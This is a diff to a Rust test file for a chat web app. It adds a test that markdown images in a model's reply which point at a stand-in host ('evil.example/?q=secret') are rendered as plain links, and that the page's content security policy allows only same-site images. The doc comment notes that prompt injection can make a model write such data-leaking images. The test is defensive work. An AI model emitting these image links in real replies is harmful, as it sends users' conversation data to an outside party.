@@ -16,6 +16,7 @@ async fn member<'a>(d: &'a Deployment, name: &str) -> Browser<'a> {
     let email = format!("{name}@example.com");
     let (status, _, page) = b.post("/register", &[("username", name), ("email", &email), ("password", PASSWORD)]).await;
     assert_eq!(status, StatusCode::SEE_OTHER, "{page}");
+    b.get("/chat").await;
     b
 }
 
@@ -266,4 +267,36 @@ async fn web_chat_malformed_addresses_get_a_page() {
     let (status, _, page) = b.post("/chat/not-an-id/stop", &[]).await;
     assert_eq!(status, StatusCode::NOT_FOUND, "{page}");
     assert!(page.contains("<!doctype html>"), "{page}");
+}
+
+/// A reply that would send the conversation elsewhere through an image (a prompt injection can
+/// make a model write one) shows a link instead, and the page lets images load only from this
+/// site. The export is a file, never a page.
+#[tokio::test]
+async fn web_chat_replies_load_no_image_from_elsewhere() {
+    let reply = "Here. ![x](https://evil.example/?q=secret) ![](//evil.example/pixel.png) ![ours](/static/app.css)";
+    let node = FakeOllama::start(reply, &["alpha"]).await;
+    let d = platform_on(&[&node], |_| {}).await;
+    let mut b = member(&d, "viewer").await;
+    let conversation = start_conversation(&mut b, "Pictures", "").await;
+    let (status, _, page) =
+        b.post(&format!("{conversation}/messages"), &[("content", "![y](https://evil.example/?q=mine)")]).await;
+    assert_eq!(status, StatusCode::SEE_OTHER, "{page}");
+
+    let (status, _, page) = b.get(&conversation).await;
+    assert_eq!(status, StatusCode::OK, "{page}");
+    let csp = b.last_headers[reqwest::header::CONTENT_SECURITY_POLICY].to_str().unwrap().to_owned();
+    assert!(csp.contains("img-src 'self' data:;"), "{csp}");
+    let sources: Vec<&str> = page.split("<img").skip(1).map(|tag| tag.split('>').next().unwrap()).collect();
+    assert_eq!(sources, [" src=\"/static/app.css\" alt=\"ours\" /"], "only this site's image: {page}");
+    assert!(
+        page.contains("<a href=\"https://evil.example/?q=secret\" rel=\"noopener noreferrer nofollow\">x</a>"),
+        "the image is a link: {page}"
+    );
+    assert!(page.contains("![y](https://evil.example/?q=mine)"), "the user's message is text: {page}");
+
+    let (status, _, _) = b.get(&format!("{conversation}/export?format=markdown")).await;
+    assert_eq!(status, StatusCode::OK);
+    let kind = b.last_headers[reqwest::header::CONTENT_TYPE].to_str().unwrap().to_owned();
+    assert!(!kind.contains("html"), "{kind}");
 }
